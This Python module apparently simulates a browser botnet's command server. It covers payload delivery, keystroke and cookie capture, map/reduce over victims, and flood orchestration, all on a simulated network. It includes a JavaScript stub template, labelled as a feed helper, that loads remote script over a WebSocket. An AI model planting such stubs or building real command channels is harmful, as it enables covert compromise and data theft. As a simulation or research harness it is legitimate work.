"""Coordinator simulation: scenario configuration, the simulated network,
the command server state machine, and the full deterministic run loop.

Two infection modes are modeled. In `malicious_server` mode the victim
visits the coordinator's own site, whose page scripts open the command
channel directly. In `compromised_app` mode the victim visits a legitimate
app whose vendored script carries a planted stub that opens a cross-site
channel to the coordinator. Either way the coordinator answers each
registration with payload deliveries, then drives optional map/reduce and
flood campaigns over the connected clients.

The network applies a fixed per-link latency in ticks plus seeded random
drops. Drops only affect data-plane traffic (task assignment, results,
exfiltration, flood requests); command-channel frames ride the reliable
stream, so infection itself is deterministic.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

from . import client_sim as cs
from . import payload as pl
from . import wire
from .harness.clock import SimClock, domain_rng
from .harness.report import RunReport, encode_bytes

MODES = ("malicious_server", "compromised_app")

DEFAULT_VICTIM_ORIGIN = "http://chat.victim.test:80"

# Frame types that may be lost in flight; everything else is treated as
# reliable command traffic.
_DROPPABLE_FRAMES = (wire.MapAssign, wire.MapResult, wire.ExfilKeystrokes, wire.ExfilStorage)


class ConfigInvalid(ValueError):
    """The scenario configuration violates its contract."""


class NoClients(RuntimeError):
    """An operation that needs connected clients found none."""


class Incomplete(RuntimeError):
    """Reduce was requested while map tasks are still outstanding."""


# --------------------------------------------------------------------------
# Configuration

@dataclass(frozen=True)
class Seeds:
    obfuscation: int = 1
    rng: int = 1


@dataclass(frozen=True)
class NetworkConfig:
    latency_ticks: int = 1
    drop_probability: float = 0.0


@dataclass(frozen=True)
class MapReduceJob:
    fn_id: str
    data: str
    chunk_size: int


@dataclass(frozen=True)
class DdosPlan:
    target: str
    rate: int
    duration: int
    start_tick: int = -1  # -1: start once every client has connected


@dataclass(frozen=True)
class ScenarioConfig:
    mode: str
    payload_names: tuple = ()
    seeds: Seeds = Seeds()
    n_clients: int = 1
    victim_data: dict = field(default_factory=dict)
    user_event_script: tuple = ()  # (tick, client_id, event dict)
    mapreduce: MapReduceJob | None = None
    ddos: DdosPlan | None = None
    network: NetworkConfig = NetworkConfig()
    trigger_overrides: dict = field(default_factory=dict)
    payload_files: tuple = ()
    static_scripts: tuple = ("app.js", "chat.js")
    cnc_url: str = pl.DEFAULT_CNC_URL
    victim_origin: str = DEFAULT_VICTIM_ORIGIN
    plant_blob_file: bool = False
    stub: bool = True  # False: the page ships no delivery stub (benign app)
    max_ticks: int = 2000
    name: str = ""

    def to_dict(self) -> dict:
        data = {
            "mode": self.mode,
            "payload_names": list(self.payload_names),
            "seeds": {"obfuscation": self.seeds.obfuscation, "rng": self.seeds.rng},
            "n_clients": self.n_clients,
            "victim_data": self.victim_data,
            "user_event_script": [list(e) for e in self.user_event_script],
            "network": {
                "latency_ticks": self.network.latency_ticks,
                "drop_probability": self.network.drop_probability,
            },
            "trigger_overrides": self.trigger_overrides,
            "payload_files": list(self.payload_files),
            "static_scripts": list(self.static_scripts),
            "cnc_url": self.cnc_url,
            "victim_origin": self.victim_origin,
            "plant_blob_file": self.plant_blob_file,
            "stub": self.stub,
            "max_ticks": self.max_ticks,
            "name": self.name,
            "mapreduce": None,
            "ddos": None,
        }
        if self.mapreduce:
            data["mapreduce"] = {
                "fn_id": self.mapreduce.fn_id,
                "data": self.mapreduce.data,
                "chunk_size": self.mapreduce.chunk_size,
            }
        if self.ddos:
            data["ddos"] = {
                "target": self.ddos.target,
                "rate": self.ddos.rate,
                "duration": self.ddos.duration,
                "start_tick": self.ddos.start_tick,
            }
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "ScenarioConfig":
        if not isinstance(data, dict):
            raise ConfigInvalid("scenario must be a JSON object")
        seeds = data.get("seeds", {})
        mapreduce = data.get("mapreduce")
        ddos = data.get("ddos")
        network = data.get("network", {})
        try:
            return cls(
                mode=data.get("mode", ""),
                payload_names=tuple(data.get("payload_names", ())),
                seeds=Seeds(
                    obfuscation=seeds.get("obfuscation", 1), rng=seeds.get("rng", 1)
                ),
                n_clients=data.get("n_clients", 1),
                victim_data=data.get("victim_data", {}),
                user_event_script=tuple(tuple(e) for e in data.get("user_event_script", ())),
                mapreduce=MapReduceJob(
                    fn_id=mapreduce["fn_id"],
                    data=mapreduce["data"],
                    chunk_size=mapreduce["chunk_size"],
                )
                if mapreduce
                else None,
                ddos=DdosPlan(
                    target=ddos["target"],
                    rate=ddos["rate"],
                    duration=ddos["duration"],
                    start_tick=ddos.get("start_tick", -1),
                )
                if ddos
                else None,
                network=NetworkConfig(
                    latency_ticks=network.get("latency_ticks", 1),
                    drop_probability=network.get("drop_probability", 0.0),
                ),
                trigger_overrides=data.get("trigger_overrides", {}),
                payload_files=tuple(data.get("payload_files", ())),
                static_scripts=tuple(data.get("static_scripts", ("app.js", "chat.js"))),
                cnc_url=data.get("cnc_url", pl.DEFAULT_CNC_URL),
                victim_origin=data.get("victim_origin", DEFAULT_VICTIM_ORIGIN),
                plant_blob_file=data.get("plant_blob_file", False),
                stub=data.get("stub", True),
                max_ticks=data.get("max_ticks", 2000),
                name=data.get("name", ""),
            )
        except (KeyError, TypeError) as exc:
            raise ConfigInvalid(f"bad scenario config: {exc}") from exc

    @classmethod
    def from_json(cls, text: str) -> "ScenarioConfig":
        try:
            data = json.loads(text)
        except json.JSONDecodeError as exc:
            raise ConfigInvalid(f"bad scenario JSON: {exc}") from exc
        return cls.from_dict(data)

    @classmethod
    def from_file(cls, path) -> "ScenarioConfig":
        return cls.from_json(Path(path).read_text(encoding="utf-8"))


_USER_EVENTS = {
    "Keystroke": lambda d: cs.Keystroke(key=d.get("key", "x")),
    "ChatMessage": lambda d: cs.ChatMessage(text=d.get("text", "")),
    "Navigate": lambda d: cs.Navigate(page=d.get("page", "")),
    "BrowserClose": lambda d: cs.BrowserClose(),
    "MachineRestart": lambda d: cs.MachineRestart(),
}


def parse_user_event(data: dict):
    if not isinstance(data, dict) or data.get("event") not in _USER_EVENTS:
        raise ConfigInvalid(f"bad user event {data!r}")
    return _USER_EVENTS[data["event"]](data)


def validate_config(cfg: ScenarioConfig) -> None:
    if cfg.mode not in MODES:
        raise ConfigInvalid(f"mode must be one of {MODES}, got {cfg.mode!r}")
    if not isinstance(cfg.n_clients, int) or cfg.n_clients < 1:
        raise ConfigInvalid(f"n_clients must be >= 1, got {cfg.n_clients!r}")
    if not 0.0 <= cfg.network.drop_probability < 1.0:
        raise ConfigInvalid("drop_probability must be in [0, 1)")
    if cfg.network.latency_ticks < 1:
        raise ConfigInvalid("latency_ticks must be >= 1")
    if cfg.mapreduce and cfg.mapreduce.chunk_size < 1:
        raise ConfigInvalid("chunk_size must be >= 1")
    if cfg.mapreduce and cfg.mapreduce.fn_id not in pl.MAP_FNS:
        raise ConfigInvalid(f"mapreduce fn_id must be one of {pl.MAP_FNS}")
    if cfg.ddos and (cfg.ddos.rate < 1 or cfg.ddos.duration < 1):
        raise ConfigInvalid("ddos rate and duration must be >= 1")
    if cfg.max_ticks < 1:
        raise ConfigInvalid("max_ticks must be >= 1")
    known = set(resolve_payloads(cfg))
    for name in cfg.payload_names:
        if name not in known:
            raise ConfigInvalid(f"unknown payload {name!r}")
    for entry in cfg.user_event_script:
        if len(entry) != 3:
            raise ConfigInvalid(f"bad event entry {entry!r}")
        tick, client_id, event = entry
        if not isinstance(tick, int) or tick < 0:
            raise ConfigInvalid(f"bad event tick {tick!r}")
        if not (isinstance(client_id, str) and client_id.startswith("c")):
            raise ConfigInvalid(f"bad event client {client_id!r}")
        parse_user_event(event)


def resolve_payloads(cfg: ScenarioConfig) -> dict:
    """Name -> Payload map: builtins plus any payload files, with scenario
    trigger overrides applied."""
    table = pl.builtin_payloads(cnc_url=cfg.cnc_url)
    for path in cfg.payload_files:
        p = pl.payload_from_json(Path(path).read_text(encoding="utf-8"))
        table[p.payload_id] = p
    out = {}
    for name, p in table.items():
        override = cfg.trigger_overrides.get(name)
        if override is not None:
            p = pl.Payload(
                payload_id=p.payload_id,
                instructions=p.instructions,
                trigger=pl.trigger_from_dict(override),
            )
        out[name] = p
    return out


# --------------------------------------------------------------------------
# Data chunking and the sequential oracles' counterpart

def chunk_data(data: str, chunk_size: int) -> list:
    """Greedy whitespace-boundary chunking: tokens are never split, every
    chunk except possibly oversized single tokens stays within chunk_size."""
    if chunk_size < 1:
        raise ConfigInvalid("chunk_size must be >= 1")
    chunks = []
    current: list = []
    length = 0
    for token in data.split():
        added = len(token) if not current else length + 1 + len(token)
        if current and added > chunk_size:
            chunks.append(" ".join(current))
            current, length = [token], len(token)
        else:
            current.append(token)
            length = added
    if current:
        chunks.append(" ".join(current))
    return chunks


# --------------------------------------------------------------------------
# Coordinator state

@dataclass
class TaskState:
    task_id: int
    chunk: str
    assigned_to: str = ""
    assigned_tick: int = -1
    attempts: int = 0


@dataclass
class Connection:
    client_id: str
    socket_id: str
    dead: bool = False


class CncState:
    """Server side: connections, payload delivery, task bookkeeping, loot."""

    def __init__(self, cfg: ScenarioConfig, blobs: dict):
        self.cfg = cfg
        self.blobs = blobs  # payload name -> (Payload, ObfuscatedBlob)
        self.connected: list = []  # client ids in first-registration order
        self.connections: list = []  # Connection records in creation order
        self.delivered: set = set()
        self.pending_tasks: dict = {}  # task_id -> TaskState
        self.results: dict = {}  # task_id -> value map
        self.exfil_store: dict = {}
        self.reassignment_queue: list = []
        self.log: list = []
        self.outbound: list = []  # (client_id, socket_id, Message)
        self.reduce_result: dict | None = None
        self.completed_at_tick: int = -1
        self.job_started = False
        self.ddos_issued = False
        self._rr_cursor = 0
        self._next_task_id = 0

    def _note(self, tick: int, event: str, **fields) -> None:
        record = {"tick": tick, "event": event}
        record.update(fields)
        self.log.append(record)

    def _client_store(self, client_id: str) -> dict:
        return self.exfil_store.setdefault(client_id, {"keystrokes": [], "storage": []})

    def live_connections(self, client_id: str) -> list:
        return [c for c in self.connections if c.client_id == client_id and not c.dead]

    def mark_dead(self, client_id: str, socket_id: str) -> None:
        for conn in self.connections:
            if conn.client_id == client_id and conn.socket_id == socket_id:
                conn.dead = True

    def handle_frame(self, tick: int, client_id: str, socket_id: str, msg) -> None:
        if isinstance(msg, wire.Register):
            if not any(
                c.client_id == msg.client_id and c.socket_id == socket_id
                for c in self.connections
            ):
                self.connections.append(Connection(client_id=msg.client_id, socket_id=socket_id))
            if msg.client_id not in self.connected:
                self.connected.append(msg.client_id)
            self._note(tick, "register", client=msg.client_id, socket=socket_id)
            if msg.client_id not in self.delivered:
                self.delivered.add(msg.client_id)
                for name in self.cfg.payload_names:
                    payload, blob = self.blobs[name]
                    self.outbound.append(
                        (
                            msg.client_id,
                            socket_id,
                            wire.PayloadDelivery(
                                payload_id=name, code=blob, trigger=payload.trigger
                            ),
                        )
                    )
                    self._note(tick, "deliver", client=msg.client_id, payload=name)
        elif isinstance(msg, wire.MapResult):
            if msg.task_id in self.pending_tasks:
                del self.pending_tasks[msg.task_id]
                self.results[msg.task_id] = dict(msg.value)
                self._note(tick, "map_result", task=msg.task_id, client=msg.client_id)
            else:
                self._note(tick, "map_result_duplicate", task=msg.task_id, client=msg.client_id)
        elif isinstance(msg, wire.ExfilKeystrokes):
            store = self._client_store(msg.client_id)
            store["keystrokes"].extend({"key": e.key, "tick": e.tick} for e in msg.events)
            self._note(tick, "exfil_keystrokes", client=msg.client_id, count=len(msg.events))
        elif isinstance(msg, wire.ExfilStorage):
            store = self._client_store(msg.client_id)
            store["storage"].append(
                {"cookies": dict(msg.cookies), "web_storage": dict(msg.web_storage)}
            )
            self._note(tick, "exfil_storage", client=msg.client_id)
        else:
            self._note(tick, "ignored_frame", frame_type=type(msg).__name__)

    # -- map/reduce ----------------------------------------------------------

    def assign_chunks(self, job: MapReduceJob, clients: list, tick: int) -> list:
        """Split the job and address each chunk to one client, round-robin.
        Task ids are sequential from zero."""
        if not clients:
            raise NoClients("no connected clients to assign chunks to")
        frames = []
        for chunk in chunk_data(job.data, job.chunk_size):
            task_id = self._next_task_id
            self._next_task_id += 1
            client = clients[self._rr_cursor % len(clients)]
            self._rr_cursor += 1
            self.pending_tasks[task_id] = TaskState(
                task_id=task_id, chunk=chunk, assigned_to=client, assigned_tick=tick, attempts=1
            )
            frames.append(
                (client, wire.MapAssign(task_id=task_id, fn_id=job.fn_id, chunk=chunk))
            )
            self._note(tick, "assign", task=task_id, client=client)
        return frames

    def reassign_stale(self, job: MapReduceJob, tick: int, timeout: int) -> list:
        """Re-send tasks whose results are overdue. Retries are hedged: the
        copy count grows with the attempt count (capped), and duplicate
        results are already deduplicated by task id, so speculation is safe
        and bounds the straggler tail under lossy links."""
        frames = []
        for task in self.pending_tasks.values():
            if tick - task.assigned_tick >= timeout:
                if not self.connected:
                    continue
                copies = min(1 + task.attempts, len(self.connected), 4)
                task.assigned_tick = tick
                task.attempts += 1
                self.reassignment_queue.append(task.task_id)
                for _ in range(copies):
                    client = self.connected[self._rr_cursor % len(self.connected)]
                    self._rr_cursor += 1
                    task.assigned_to = client
                    frames.append(
                        (
                            client,
                            wire.MapAssign(task_id=task.task_id, fn_id=job.fn_id, chunk=task.chunk),
                        )
                    )
                    self._note(
                        tick, "reassign", task=task.task_id, client=client, attempt=task.attempts
                    )
        return frames

    def reduce_results(self, fn_id: str) -> dict:
        """Merge the collected partials; only legal once nothing is pending."""
        if self.pending_tasks:
            raise Incomplete(f"{len(self.pending_tasks)} tasks still pending")
        merged: dict = {}
        for task_id in sorted(self.results):
            for key, value in self.results[task_id].items():
                merged[key] = merged.get(key, 0) + value
        if fn_id == "SumOfSquares":
            merged = {"sum": merged.get("sum", 0)}
        return {key: merged[key] for key in sorted(merged)}

    # -- flood ----------------------------------------------------------------

    def orchestrate_ddos(self, target: str, rate: int, duration: int, tick: int) -> list:
        """Broadcast one flood command to every connected client."""
        if not self.connected:
            raise NoClients("no connected clients for a flood command")
        frames = []
        for client_id in self.connected:
            frames.append((client_id, wire.DdosCommand(target=target, rate=rate, duration=duration)))
            self._note(tick, "ddos_command", client=client_id, target=target)
        return frames


# --------------------------------------------------------------------------
# Simulated network

@dataclass
class _Packet:
    dest: tuple  # ("cnc", client_id, socket_id) | ("client", client_id, socket_id) | ("target", url)
    item: object


class SimulatedNetwork:
    """Fixed per-link latency plus seeded data-plane drops; FIFO per link."""

    def __init__(self, cfg: NetworkConfig, rng):
        self.cfg = cfg
        self.rng = rng
        self.clock = SimClock()
        self.sent = 0
        self.dropped = 0

    def send(self, now: int, dest: tuple, item, droppable: bool) -> None:
        self.sent += 1
        if droppable and self.cfg.drop_probability > 0.0:
            if self.rng.random() < self.cfg.drop_probability:
                self.dropped += 1
                return
        self.clock.tick = now
        self.clock.schedule(now + self.cfg.latency_ticks, _Packet(dest=dest, item=item))

    def due(self, tick: int) -> list:
        self.clock.tick = tick
        return self.clock.due()

    @property
    def pending(self) -> int:
        return self.clock.pending


def _frame_droppable(msg) -> bool:
    return isinstance(msg, _DROPPABLE_FRAMES)


# --------------------------------------------------------------------------
# Scenario assembly and the run loop

_APP_TEMPLATES = {
    "app.js": "// shared chat board\nconst board = mountBoard(document.body);\nboard.refresh();\n",
    "chat.js": "// message pane\nexport function post(text) { board.append(text); }\n",
    "vendor.js": "// third-party widget bundle\nexport const widgets = {};\n",
}

_STUB_TEMPLATE = (
    "// live feed helper\n"
    "const feed = new WebSocket('{url}');\n"
    "feed.onmessage = (e) => attachScript(document.body, e.data);\n"
)

_WORKER_BOOT = "// background indexer\nconst w = new Worker('worker.js');\n"
_SW_BOOT = "// offline support\nnavigator.serviceWorker.register('/sw.js');\n"


def _static_script_entries(cfg: ScenarioConfig, page_url: str) -> tuple:
    """Build the page's static scripts: configured assets, behavior scripts,
    and the delivery stub (present in both modes; what differs is whose
    origin the page belongs to)."""
    scripts = []
    assets = []
    for entry in cfg.static_scripts:
        if isinstance(entry, str):
            name, behavior = entry, "inert"
        else:
            name, behavior = entry.get("name", "extra.js"), entry.get("behavior", "inert")
        if behavior == "same_origin_worker":
            program = (pl.SpawnWorkerFromBlob(script_origin_url=page_url + "/worker.js", inner=()),)
            content = _WORKER_BOOT
        elif behavior == "offline_cache_sw":
            program = (pl.RegisterServiceWorker(inner=()),)
            content = _SW_BOOT
        elif behavior == "inert":
            program = ()
            content = _APP_TEMPLATES.get(name, f"// asset {name}\n")
        else:
            raise ConfigInvalid(f"unknown static script behavior {behavior!r}")
        scripts.append(cs.StaticScript(name=name, program=program))
        assets.append({"path": f"static/{name}", "content": content})
    if cfg.stub:
        stub = cs.StaticScript(name="feed_stub.js", program=(pl.OpenSocket(url=cfg.cnc_url),))
        scripts.append(stub)
        assets.append(
            {"path": "static/feed_stub.js", "content": _STUB_TEMPLATE.format(url=cfg.cnc_url)}
        )
    return tuple(scripts), assets


def _page_origin(cfg: ScenarioConfig) -> str:
    if cfg.mode == "malicious_server":
        scheme, host, port = cs.origin_of(cfg.cnc_url)
        return f"http://{host}:{port}"
    return cfg.victim_origin


def _victim_data_for(cfg: ScenarioConfig, client_id: str) -> dict:
    data = cfg.victim_data.get(client_id, cfg.victim_data.get("*", {}))
    return {
        "cookies": dict(data.get("cookies", {})),
        "web_storage": dict(data.get("web_storage", {})),
    }


def run_scenario(cfg: ScenarioConfig) -> RunReport:
    """Execute the configured scenario to quiescence (or max_ticks) and
    return the full report. Pure in (config, seeds)."""
    validate_config(cfg)
    payloads = resolve_payloads(cfg)
    blobs = {
        name: (payloads[name], pl.obfuscate(payloads[name], cfg.seeds.obfuscation))
        for name in cfg.payload_names
    }
    net = SimulatedNetwork(cfg.network, domain_rng(cfg.seeds.rng, "network"))
    cnc = CncState(cfg, blobs)
    page_url = _page_origin(cfg)
    scripts, assets = _static_script_entries(cfg, page_url)

    clients: dict = {}
    socket_owner: dict = {}  # socket key -> client id, for outbox routing
    for i in range(cfg.n_clients):
        cid = f"c{i}"
        data = _victim_data_for(cfg, cid)
        clients[cid] = cs.BrowserState(
            cid,
            cookies=data["cookies"],
            web_storage=data["web_storage"],
            plant_delivered_blobs=cfg.plant_blob_file,
            file_seed=pl.derive_seed(cfg.seeds.obfuscation, cid),
        )

    events_by_tick: dict = {}
    last_event_tick = 0
    for index, (tick, client_id, event) in enumerate(cfg.user_event_script):
        events_by_tick.setdefault(tick, []).append((index, client_id, parse_user_event(event)))
        last_event_tick = max(last_event_tick, tick)

    target_counts: dict = {}
    timeout = 4 * cfg.network.latency_ticks
    mapreduce_expected = len(chunk_data(cfg.mapreduce.data, cfg.mapreduce.chunk_size)) if cfg.mapreduce else 0

    def flush_client_output(tick: int, cid: str) -> None:
        state = clients[cid]
        for socket_id, msg in state.drain_outbox():
            frame = wire.encode_frame(msg)
            net.send(tick, ("cnc", cid, socket_id), frame, droppable=_frame_droppable(msg))
        for target in state.drain_requests():
            net.send(tick, ("target", target), None, droppable=True)

    def deliver_to_client(tick: int, cid: str, socket_id: str, frame: str) -> None:
        state = clients[cid]
        try:
            state.receive_frame(socket_id, frame)
        except cs.UnknownSocket:
            net.dropped += 1
            cnc.mark_dead(cid, socket_id)
        except cs.SimError:
            net.dropped += 1

    tick = 0
    quiet_grace = 0
    truncated = False
    while True:
        if tick > cfg.max_ticks:
            truncated = True
            break

        for cid in clients:
            clients[cid].begin_tick(tick)

        if tick == 0:
            for cid in clients:
                clients[cid].open_page(page_url, scripts)

        for packet in net.due(tick):
            kind = packet.dest[0]
            if kind == "cnc":
                _, cid, socket_id = packet.dest
                cnc.handle_frame(tick, cid, socket_id, wire.decode_frame(packet.item))
            elif kind == "client":
                _, cid, socket_id = packet.dest
                deliver_to_client(tick, cid, socket_id, packet.item)
            else:
                url = packet.dest[1]
                target_counts[url] = target_counts.get(url, 0) + 1

        for _, cid, event in sorted(events_by_tick.get(tick, []), key=lambda e: e[0]):
            clients[cid].deliver_user_event(event)

        # Coordinator actions for this tick.
        if cfg.mapreduce:
            if not cnc.job_started and cnc.connected:
                for client_id, frame in cnc.assign_chunks(cfg.mapreduce, list(cnc.connected), tick):
                    cnc.outbound.append((client_id, "", frame))
                cnc.job_started = True
            elif cnc.job_started and cnc.pending_tasks:
                # Round-trip allowance plus the service backlog: clients work
                # one chunk per tick, so outstanding/connected estimates how
                # long honest progress takes before a re-send is warranted.
                backlog = -(-len(cnc.pending_tasks) // max(1, len(cnc.connected)))
                for client_id, frame in cnc.reassign_stale(cfg.mapreduce, tick, timeout + backlog):
                    cnc.outbound.append((client_id, "", frame))
            if (
                cnc.job_started
                and not cnc.pending_tasks
                and cnc.reduce_result is None
                and len(cnc.results) == mapreduce_expected
            ):
                cnc.reduce_result = cnc.reduce_results(cfg.mapreduce.fn_id)
                cnc.completed_at_tick = tick
                cnc._note(tick, "reduce", keys=len(cnc.reduce_result))
        if cfg.ddos and not cnc.ddos_issued:
            start = cfg.ddos.start_tick
            ready = len(cnc.connected) >= cfg.n_clients if start < 0 else tick >= start
            if ready and cnc.connected:
                for client_id, frame in cnc.orchestrate_ddos(
                    cfg.ddos.target, cfg.ddos.rate, cfg.ddos.duration, tick
                ):
                    cnc.outbound.append((client_id, "", frame))
                cnc.ddos_issued = True

        for client_id, socket_id, msg in cnc.outbound:
            conns = cnc.live_connections(client_id)
            if socket_id:
                chosen = socket_id
            elif conns:
                chosen = conns[-1].socket_id  # most recent live channel
            else:
                net.dropped += 1
                continue
            frame = wire.encode_frame(msg)
            net.send(tick, ("client", client_id, chosen), frame, droppable=_frame_droppable(msg))
        cnc.outbound.clear()

        for cid in clients:
            clients[cid].finish_tick()
            flush_client_output(tick, cid)

        # Quiescence: nothing in flight, nothing scripted, campaigns settled.
        busy = net.pending > 0 or tick < last_event_tick
        if cfg.mapreduce and cnc.reduce_result is None:
            busy = True
        if cfg.ddos and not cnc.ddos_issued:
            busy = True
        for state in clients.values():
            for ctx in state._contexts:
                if ctx.done or not state._alive(ctx):
                    continue
                instr = ctx.program[ctx.pc]
                if isinstance(instr, pl.HttpFlood):
                    busy = True
            if any(isinstance(p.trigger, pl.AtTick) for p in state.pending_payloads):
                busy = True
        if not busy:
            emitted = False
            for cid, state in clients.items():
                if state.keystroke_buffer and state.keystroke_channel:
                    state.flush_keystrokes()
                    flush_client_output(tick, cid)
                    emitted = emitted or net.pending > 0
            if emitted:
                busy = True
        if not busy:
            quiet_grace += 1
            if quiet_grace > cfg.network.latency_ticks + 1:
                break
        else:
            quiet_grace = 0
        tick += 1

    report = RunReport(
        config=cfg.to_dict(),
        seeds={"obfuscation": cfg.seeds.obfuscation, "rng": cfg.seeds.rng},
        ticks=tick,
        truncated=truncated,
    )
    for cid, state in clients.items():
        report.clients[cid] = {
            "event_log": state.event_log,
            "filesystem_log": [
                {
                    "path": fw.path,
                    "cause": fw.cause,
                    "tick": fw.tick,
                    "content_b64": encode_bytes(fw.content),
                }
                for fw in state.filesystem_log
            ],
            "final": {
                "pages_open": len(state.pages),
                "keystroke_hooked": state.keystroke_hooked,
                "workers": {w.worker_id: w.lifecycle for w in state.workers},
                "service_workers": {sw.sw_id: sw.lifecycle for sw in state.service_workers},
            },
        }
    report.cnc = {
        "log": cnc.log,
        "connected": list(cnc.connected),
        "exfil_store": cnc.exfil_store,
        "mapreduce": {
            "result": cnc.reduce_result,
            "completed_at_tick": cnc.completed_at_tick,
            "tasks_total": mapreduce_expected,
            "reassignments": list(cnc.reassignment_queue),
        }
        if cfg.mapreduce
        else None,
    }
    report.delivered_blobs = [
        {
            "payload_id": name,
            "seed": blob.seed,
            "sha256": pl.signature(blob).hex(),
            "bytes_b64": encode_bytes(blob.bytes),
        }
        for name, (_, blob) in sorted(blobs.items())
    ]
    if cfg.ddos:
        report.ddos = {
            "target_observed": target_counts,
            "expected_at_zero_drop": cfg.n_clients * cfg.ddos.rate * cfg.ddos.duration,
        }
    report.network = {"sent": net.sent, "dropped": net.dropped}
    report.static_assets = assets
    return report
